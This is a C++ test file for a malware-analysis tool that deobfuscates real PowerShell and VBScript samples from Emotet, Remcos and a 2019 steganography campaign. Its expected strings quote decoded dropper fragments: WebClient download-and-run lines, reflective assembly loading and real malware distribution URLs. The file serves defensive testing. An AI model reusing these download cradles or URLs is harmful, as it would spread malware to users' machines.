// Real malicious scripts from ../shared/corpora/inquest-docs (zips with password "infected",
// read in memory only): Invoke-Obfuscation layers of the 2019 PowerShell steganography campaign
// and Emotet's PowerShell droppers. Each test checks that what it asserts was not readable in
// the input, so that it proves decoding.
#include <algorithm>
#include <catch2/catch.hpp>
#include <map>
#include <string>

#include "kensa/archive/archive_reader.h"
#include "kensa/core/file.h"
#include "kensa/hashing/hashes.h"
#include "kensa/script/behaviour.h"
#include "kensa/script/deobfuscator.h"

namespace kensa::script {
namespace {

// The members of an InQuest campaign zip whose names end with one of `suffixes`.
std::map<std::string, Bytes> InquestMembers(const std::string& zip, const std::vector<std::string>& suffixes) {
  auto zip_bytes = ReadFileBounded("../shared/corpora/inquest-docs/" + zip, 64u << 20);
  REQUIRE(zip_bytes.has_value());
  auto listing = archive::ReadArchive(*zip_bytes, {"infected"}, archive::ArchiveLimits{});
  REQUIRE(listing.has_value());
  std::map<std::string, Bytes> found;
  for (auto& member : listing->members) {
    for (const auto& suffix : suffixes) {
      if (member.name.ends_with(suffix)) found[suffix] = std::move(member.data);
    }
  }
  REQUIRE(found.size() == suffixes.size());
  return found;
}

std::string Text(const Bytes& data) { return DecodeScriptBytes(data, 16u << 20); }

bool HasFinding(const std::vector<ScriptFinding>& findings, std::string_view kind, std::string_view keyword) {
  return std::any_of(findings.begin(), findings.end(),
                     [&](const ScriptFinding& f) { return f.kind == kind && f.keyword == keyword; });
}

TEST_CASE("Invoke-Obfuscation stage 2 inflates, decodes its char-code and format layers, and yields the PE") {
  auto members = InquestMembers("2019-03-PowerShell-Obfuscation-Encryption-Steganography.zip", {"/2. stage2.ps1.bin"});
  const std::string stage2 = Text(members.begin()->second);
  REQUIRE(stage2.find("Reflection.Assembly") == std::string::npos);
  const auto d = Deobfuscate(stage2, Language::kPowerShell);
  CHECK(d.limit_reached.empty());
  REQUIRE(d.texts.size() == 2);
  CHECK(d.texts[1].origin == "deflate");
  // Stage 8 of the campaign, as InQuest's own "8. stage8.ps1.bin" has it.
  CHECK(d.texts[1].text.find("function v10A{[Reflection.Assembly]::LoaD([Convert]::FromBase64String('TVqQ") !=
        std::string::npos);
  CHECK(d.texts[1].text.find("Net.WebClient") != std::string::npos);
  // The .NET loader it carries in base64, handed over as a file.
  REQUIRE(d.blobs.size() == 1);
  CHECK(d.blobs[0].data.size() == 6144);
  CHECK(hashing::Sha256Hex(d.blobs[0].data) == "6847b98f36e96c3d967524811409e164746bea5ae021d44fbd6c7bfefe072582");
  const auto findings = FindBehaviour(d, stage2);
  CHECK(HasFinding(findings, "download_cradle", "Net.WebClient.OpenRead"));
  CHECK(HasFinding(findings, "execution", "Reflection.Assembly.Load"));
  CHECK(HasFinding(findings, "execution", "Invoke-Expression"));
}

TEST_CASE("Emotet's -creplace and [char] layers give back the download URLs and the WebClient") {
  auto members = InquestMembers("2019-06-Emotet-Droppers.zip",
                                {"unique_powershell/2d4fd302be0dd3a1d62c41dbcf1c97b3bcdbecafb169839611aac81a4ad51e73"});
  const std::string file = Text(members.begin()->second);
  // The analyst's file holds the stages one after the other; lines 3-4 are the obfuscated
  // dropper (the following lines are its decoded form, left out here).
  std::size_t line3 = file.find('\n', file.find('\n') + 1) + 1;
  std::size_t line5 = file.find('\n', file.find('\n', line3) + 1);
  const std::string stage = file.substr(line3, line5 - line3);
  REQUIRE(stage.find("http://marianamengote.com/ungdg5/") == std::string::npos);
  const auto d = Deobfuscate(stage, Language::kPowerShell);
  const std::string& text = d.texts[0].text;
  CHECK(text.find("$yyu = new-object system.net.webclient") != std::string::npos);
  CHECK(text.find("http://marianamengote.com/ungdg5/','http://hnw7.com/x9zlw7/'") != std::string::npos);
  CHECK(text.find("$sdc = 'C:\\Users\\Public\\' + $nsb + '.exe'") != std::string::npos);
  const auto findings = FindBehaviour(d, stage);
  CHECK(HasFinding(findings, "download_cradle", "Net.WebClient.DownloadFile"));
  CHECK(HasFinding(findings, "execution", "Invoke-Expression"));
  CHECK(HasFinding(findings, "execution", "Invoke-Item"));
}

TEST_CASE("Emotet's .replace('000', $undefined) layer gives back the URLs") {
  auto members = InquestMembers("2019-06-Emotet-Droppers.zip",
                                {"unique_powershell/c037df32b92d22d5b56b7afbad9e4dfc5b8b8a3b93d57f9a2ebdcb4ec7c93b9c"});
  const std::string file = Text(members.begin()->second);
  const std::string dropper = file.substr(0, file.find('\n'));
  REQUIRE(dropper.find("http://japanijob.com") == std::string::npos);
  const auto d = Deobfuscate(dropper, Language::kPowerShell);
  CHECK(d.texts[0].text.find("http://japanijob.com/uuc8iefifb,http://103.11.22.51/wp-content/uploads/yoarkx9") !=
        std::string::npos);
  CHECK(d.texts[0].text.find("$oervbsv.downloadfile($igsfrnt.tostring(), $l1u8gi4t);start-process") != std::string::npos);
}

TEST_CASE("Remcos's VBScript decodes at run time through its own functions: the Execute of built code is found") {
  auto members = InquestMembers("2020-07-Remcos.zip", {"/remit.vbs"});
  const std::string text = Text(members.begin()->second);
  const auto d = Deobfuscate(text, Language::kVbScript);
  CHECK(d.limit_reached.empty());
  const auto findings = FindBehaviour(d, text);
  CHECK(HasFinding(findings, "execution", "ExecuteGlobal"));
  CHECK(HasFinding(findings, "execution", "Execute"));
  // Its hex and reversed strings go through functions of its own, which are not evaluated.
  CHECK_FALSE(HasFinding(findings, "download_cradle", "Net.WebClient.DownloadString"));
}

TEST_CASE("Every script of the steganography campaign de-obfuscates within the limits") {
  auto members = InquestMembers("2019-03-PowerShell-Obfuscation-Encryption-Steganography.zip",
                                {"/1. stage1.ps1.bin", "/3. stage3.ps1.bin", "/5. stage5.ps1.bin",
                                 "/9.b. extracted from 6a-png image.ps1.bin",
                                 "/13.b. extracted from vwN9O7y-png image.ps1.bin"});
  for (const auto& [name, data] : members) {
    INFO(name);
    const std::string text = Text(data);
    const auto d = Deobfuscate(text, Language::kPowerShell);
    CHECK((d.limit_reached.empty() || d.limit_reached == "deadline"));
    CHECK_FALSE(d.layers.empty());
  }
}

}  // namespace
}  // namespace kensa::script
